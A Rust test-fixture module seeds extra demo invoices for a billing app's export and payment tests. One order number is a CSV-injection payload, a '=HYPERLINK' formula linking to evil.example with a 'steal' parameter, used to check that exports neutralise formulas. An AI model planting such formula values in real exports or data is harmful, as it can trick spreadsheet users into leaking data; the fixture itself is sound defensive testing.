//! Invoices that exercise the invoice list's exports and payments, added on
//! demand (`--invoice-extras`, or `POST /_dev/invoice-extras` from a journey)
//! so the rows, counts and balances other journeys assert on stay as seeded:
//!
//! - amounts above 1,000 (thousands separators in French and Italian);
//! - an order number that is a spreadsheet formula (`=HYPERLINK(…)`, a CSV
//!   injection attempt the exports must neutralise);
//! - an unpaid invoice in a second currency (GBP), so totals are per currency
//!   and a payment mixing currencies is refused.

use billing_contract::*;
use chrono::Duration;
use rust_decimal::Decimal;

use super::{CustomerData, Db};

/// The order number that is a formula.
pub const FORMULA_ORDER_ID: &str = "=HYPERLINK(\"https://evil.example/?steal=1\";\"Cliquez ici\")";

/// Adds the extras to the French demo customer (the first); a second call
/// adds nothing.
pub fn add(db: &mut Db, now: DateTimeOffset) {
    let Some(cd) = db.customers.first_mut() else {
        return;
    };
    if cd.invoices.iter().any(|i| i.order_id == FORMULA_ORDER_ID) {
        return;
    }
    let eur = Currency::EUR;
    let gbp = Currency::new("GBP").expect("GBP is a currency code");
    let specs: [(&str, Decimal, Currency, i64, bool); 3] = [
        // order number, amount excl. tax, currency, age in days, paid
        ("209876543", Decimal::new(1_234_567, 2), eur, 2, false),
        (FORMULA_ORDER_ID, Decimal::new(250_000, 2), eur, 4, true),
        ("209876544", Decimal::new(150_000, 2), gbp, 5, false),
    ];
    for (order_id, excl, currency, age, paid) in specs {
        let invoice = build(
            cd,
            order_id,
            excl,
            currency,
            now - Duration::days(age),
            paid,
        );
        // Newest first, as the seed keeps them.
        let at = cd
            .invoices
            .iter()
            .position(|i| i.date < invoice.date)
            .unwrap_or(cd.invoices.len());
        cd.invoices.insert(at, invoice);
    }
}

fn build(
    cd: &mut CustomerData,
    order_id: &str,
    excl: Decimal,
    currency: Currency,
    date: DateTimeOffset,
    paid: bool,
) -> Invoice {
    let number = cd.next_invoice_number;
    cd.next_invoice_number += 1;
    let id = format!("inv-{}-{number}", cd.ref_prefix.to_lowercase());
    let tax = cd.tax_on(excl);
    let incl = excl + tax;
    let money = |amount| Money::new(amount, currency);
    let due_date = date + Duration::days(10);
    Invoice {
        reference: format!("{}{number:08}", cd.ref_prefix),
        order_id: order_id.to_owned(),
        date,
        due_date,
        total_excl_tax: money(excl),
        tax: money(tax),
        total_incl_tax: money(incl),
        balance_due: money(if paid { Decimal::ZERO } else { incl }),
        status: if paid {
            InvoiceStatus::Paid
        } else {
            InvoiceStatus::Unpaid
        },
        category: InvoiceCategory::Purchase,
        lines: vec![InvoiceLine {
            id: format!("{id}-1"),
            description: "Serveur dédié « Advance » – installation".to_owned(),
            service_reference: format!("ns{number}.ip-51-91-0.eu"),
            period_start: Some(date.date_naive()),
            period_end: None,
            quantity: Decimal::ONE,
            unit_price_excl_tax: money(excl),
            total_excl_tax: money(excl),
        }],
        payment_type: None,
        payments: Vec::new(),
        html_url: format!("/api/v1/invoices/{id}/invoice.html"),
        pdf_url: format!("/api/v1/invoices/{id}/invoice.pdf"),
        id,
    }
}
